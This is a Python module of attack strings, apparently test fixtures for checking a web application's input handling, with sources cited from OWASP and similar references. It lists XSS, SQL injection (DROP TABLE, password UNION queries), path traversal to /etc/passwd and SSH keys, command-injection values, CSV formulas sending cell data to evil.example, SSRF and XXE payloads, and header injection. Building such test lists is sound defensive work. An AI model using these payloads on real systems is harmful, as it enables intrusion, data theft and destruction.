"""What attackers send, by attack. Each list names its source; a test takes all of its list.

MARK stands in whatever would be made of markup that is not shown as text: an element, an attribute, a script.
"""

MARK = "x5s"

# --- markup -----------------------------------------------------------------------------------------------------------

# OWASP Cross Site Scripting Prevention and XSS Filter Evasion Cheat Sheets: out of text, out of an attribute with
# either quotation mark, out of elements whose content is no markup, out of comments; links that run; templates.
MARKUP = (
    f"'\"><script>{MARK}()</script><img src=x onerror={MARK}()><svg/onload={MARK}()>"
    f"</textarea></title></option></script><{MARK}-a {MARK}-b=1>"
    f"[a](javascript:{MARK}()) <javascript:{MARK}()> [b](data:text/html,{MARK}) ![c](javascript:{MARK}())"
    f"--><style>@import '//{MARK}.example'</style>&lt;{MARK}-c&gt;%3C{MARK}-d%3E\u2028"
    "{{7777*7}}{% debug %}${7777*7}%(x)s%s{0}{x}"
)
MIDDLE_MARKUP = f"'\"><script>{MARK}()</script><img src=x onerror={MARK}()>{{{{7777*7}}}}"
SHORT_MARKUP = f"'\"><{MARK}-a on{MARK}=1>"
# a quoted local part holds anything (RFC 5321); a path of an address nearly so
MARKUP_EMAIL = '"<svg/onload={mark}()>"@{mark}.example'
MARKUP_URL = "https://{mark}.example/'\"><svg/onload={mark}()>"
COMPUTED = str(7777 * 7)  # what a template engine would make of it
# OWASP Testing Guide, WSTG-INPV-15 and -10: a line of its own in a header or in a calendar
NEW_LINES = "\r\nBcc: x5s@evil.example\r\n\r\nBEGIN:VEVENT\r\nSUMMARY:x5s\r\n"

MARKUP_IN_ADDRESS = [
    MARKUP,
    f"javascript:{MARK}()",
    f"\"autofocus onfocus={MARK}() x='",
    f"</script><script>{MARK}()</script>",
    f"data:text/html,<script>{MARK}()</script>",
]

# --- the database -----------------------------------------------------------------------------------------------------

# OWASP WSTG-INPV-05 and the SQL Injection Prevention Cheat Sheet: always true, comments, UNION, stacked, blind by time
# and by error, other encodings; wildcards of LIKE and signs of full-text searches are harmless words here.
SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "1); DROP TABLE agreements_agreement; --",
    "' UNION SELECT NULL, email, password FROM accounts_user --",
    "1 AND (SELECT 1 FROM (SELECT pg_sleep(5)) x)",
    "'||(SELECT randomblob(1000000000))||'",
    "1,(CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "\\' OR 1=1 #",
    "%",
    "_",
    "' & !a | (b:* <-> c) '",
    "ʼ OR 1=1 --",
]

# --- places -----------------------------------------------------------------------------------------------------------

# OWASP Unvalidated Redirects and Forwards Cheat Sheet; PortSwigger's URL validation bypass cheat sheet
ELSEWHERE = [
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "////evil.example",
    "/\\evil.example/",
    "\\\\evil.example/",
    "\\/\\/evil.example/",
    "/\t/evil.example/",
    "/\n/evil.example/",
    "\t//evil.example",
    " //evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:\\\\evil.example",
    "https://testserver@evil.example/",
    "https://testserver.evil.example/",
    "https://evil.example\\@testserver/",
    "javascript:x5s()",
    "JaVaScRiPt:x5s()",
    "data:text/html,x5s",
    "//evil。example/",
    "https://[::1]/",
    "https://[",
    "%2f%2fevil.example/",
    "/%09/evil.example",
    "\x00//evil.example",
    "start",
    "no such page",
    "/aftaler/\r\nLocation: https://evil.example/",
    "/" + "a" * 5_000,
]

# OWASP WSTG-ATHZ-01 and Path Traversal: up, absolute, other separators, encoded once and twice, cut off by a null
OUTSIDE = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "..%00/etc/passwd",
    "file:///etc/passwd",
    "~root/.ssh/id_rsa",
    ".",
    "..",
    "con",
    "-rf",
    "|id",
    "$(id)",
    "`id`",
]

# --- spreadsheets -----------------------------------------------------------------------------------------------------

# OWASP CSV Injection: the signs that open a formula, tab and carriage return before them, and their fullwidth forms
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    '=HYPERLINK("https://evil.example?x="&A1,"Se her")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example")',
    "'=1+1",
    ' "=1+1',
    ";=1+1",
    '";=1+1;"',
    "0\r\n=1+1",
]

# --- requests of the server -------------------------------------------------------------------------------------------

# OWASP Server Side Request Forgery Prevention Cheat Sheet; {site} is a server that must not be asked
FETCHES = [
    "![billede]({site}/markdown)",
    "[billede]: {site}/reference\n![x][billede]",
    "<img src='{site}/img' srcset='{site}/srcset 2x'>",
    "<style>@import '{site}/import'; p {{ background: url({site}/css) }}</style>",
    "<p style=\"background:url('{site}/style')\">x</p>",
    "<link rel=stylesheet href={site}/link><link rel=attachment href={site}/attachment>",
    "<object data={site}/object></object><embed src={site}/embed><iframe src={site}/iframe></iframe>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='{site}/svg'/><use href='{site}/use#a'/></svg>",
    "<img src=file:///etc/passwd><a rel=attachment href=file:///etc/passwd>x</a>",
    "![x](file:///etc/passwd)",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{site}/data"/></svg>\'>',
    "<base href='{site}/'><img src=base>",
    "<meta http-equiv=refresh content='0;url={site}/refresh'>",
    "<img src=http://169.254.169.254/latest/meta-data/>",
    "{site}/plain <{site}/auto>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{site}/entity'>]>&e;",
]

# --- texts that break programs ----------------------------------------------------------------------------------------

# The Big List of Naughty Strings, by Max Woolf: signs, lengths, numbers and dates that programs stumble over
NAUGHTY = [
    "\x00",
    "a\x00b",
    "\ud7ff\ue000\ufffd\uffff\U0010ffff",
    "\u202e\u2066\u200b\ufeff",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "９９９",
    "٣",
    "²",
    "1e309",
    "NaN",
    "-Infinity",
    "-0",
    "0x10",
    "9" * 20,
    "9" * 5000,
    "-" + "9" * 5000,
    "1" + "0" * 40 + ",5",
    "31-02-2021",
    "00-00-0000",
    "01-01-0001",
    "31-12-9999",
    "2021-13-01",
    "99:99",
    "[]",
    "{}",
    "null",
    "on",
    "-1",
    "'",
    '"',
    "\\",
    "\r\n",
    "a" * 10000,
    "ord " * 3000,
]
